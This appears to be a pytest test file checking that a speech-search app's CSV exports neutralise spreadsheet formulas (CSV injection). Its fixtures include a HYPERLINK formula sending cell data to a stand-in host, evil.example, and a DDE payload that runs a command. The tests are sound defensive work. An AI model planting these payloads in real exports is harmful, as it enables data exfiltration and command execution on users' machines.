"""Exports a spreadsheet opens as text: no cell starts a formula (OWASP's CSV injection rule)."""
import csv
import io

import haystack
import pytest

from speeches.models import Section
from speeches.spreadsheet import rows_as_text, safe_cell
from tests.factories import make_speech

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://x.example","看")', '\'=HYPERLINK("http://x.example","看")'),
    ("-20飞机起飞", "'-20飞机起飞"),
    ("+86 10 1234", "'+86 10 1234"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("  =1+1", "'  =1+1"),
    ("\u3000-20", "'\u3000-20"),
    ("发展-20", "发展-20"),  # only the first character matters
    ("2021-01", "2021-01"),
    ("", ""),
    (None, ""),
    (42, "42"),
])
def test_a_cell_that_could_start_a_formula_is_prefixed_with_a_quote(cell, shown):
    assert safe_cell(cell) == shown


def test_rows_are_quoted_and_read_back_as_the_neutralised_text():
    text = "".join(rows_as_text([["=1+1", 'a "quoted", cell'], ["-2", "普通"]]))
    assert text.splitlines()[0] == '"\'=1+1","a ""quoted"", cell"'
    assert list(csv.reader(io.StringIO(text))) == [["'=1+1", 'a "quoted", cell'], ["'-2", "普通"]]


@pytest.fixture
def hostile(index_path, db):
    """A speech whose title is a formula and whose text has a line starting with -20, indexed."""
    haystack.connections["default"].get_backend().setup()  # the first, empty generation
    make_speech(HOSTILE_TITLE, speaker="@admin", occasion="+会议", sections=[
        ("", "", ["运力调整-20飞机退出运营，落实整改。"], []),
        ("", "", ["=cmd|' /C calc'!A0 落实", "\t落实到位"], []),
    ])
    index = haystack.connections["default"].get_unified_index().get_index(Section)
    haystack.connections["default"].get_backend().update(index, list(index.index_queryset()))


def downloaded(client, **params) -> list[list[str]]:
    response = client.get("/search/kwic.csv", params)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(body)))


def test_kwic_csv_neutralises_titles_speakers_and_context(hostile, client, monkeypatch):
    from speeches.search import kwic

    monkeypatch.setattr(kwic, "CONTEXT", 200)  # whole paragraphs, so cells start with the text
    header, *rows = downloaded(client, q='"落实"')
    assert header[0] == "日期" and len(rows) == 3
    cells = [cell for row in rows for cell in row]
    assert cells and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
    assert rows[0][2] == "'" + HOSTILE_TITLE and rows[0][1] == "'@admin" and rows[0][3] == "'+会议"
    assert "' =cmd|' /C calc'!A0 " in {row[4] for row in rows}  # after the heading's line break


def test_a_line_of_ordinary_text_starting_with_minus_is_neutralised(hostile, client):
    _, *rows = downloaded(client, q='"运力调整"')
    assert [row[6] for row in rows] == ["'-20飞机退出运营，落实整改。"]  # what follows the match


def test_kwic_csv_with_a_bad_sort_is_a_400_like_the_page_and_the_api(hostile, client):
    for url in ("/search", "/api/search", "/search/kwic", "/search/kwic.csv"):
        assert client.get(url, {"q": "落实", "sort": "x"}).status_code == 400, url
    assert client.get("/search/kwic.csv", {"q": "落实", "sort": "date"}).status_code == 200
